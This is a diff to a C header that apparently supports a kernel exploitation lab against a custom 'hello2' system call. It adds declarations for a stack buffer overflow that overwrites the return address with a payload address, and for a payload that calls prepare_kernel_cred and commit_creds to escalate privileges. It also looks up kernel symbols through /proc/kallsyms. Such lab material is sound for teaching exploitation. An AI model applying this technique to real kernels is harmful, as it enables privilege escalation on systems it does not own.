@@ -42,6 +42,26 @@ void race_end(void);
 /* The address of a function of the kernel, from /proc/kallsyms; 0 if none. */
 unsigned long kernel_symbol(const char *name);
 
+/*
+ * For a length that overflows the kernel's buffer. It reaches past the return
+ * address of any hello2, and not to the end of the stack, which is pt_regs
+ * and some saved registers away.
+ */
+#define OVERFLOW 160
+
+/* "beagle", and behind it the address of payload() over and over. */
+void fill_overflow(unsigned long name[OVERFLOW / sizeof(unsigned long)]);
+
+/*
+ * lib/payload.S: hello2 as the other calls are made, and what the kernel shall
+ * execute when it returns from it. payload() is told where two functions of
+ * the kernel are; race_arm() looks them up, and returns 0 if they are there.
+ */
+long call_hello2(struct hello2_in *in, struct hello2_out *out);
+void payload(void);
+extern unsigned long prepare_kernel_cred, commit_creds;
+int race_arm(void);
+
 /* The address of a secret in the kernel, from its log; 0 if there is none. */
 unsigned long kernel_secret(void);
 
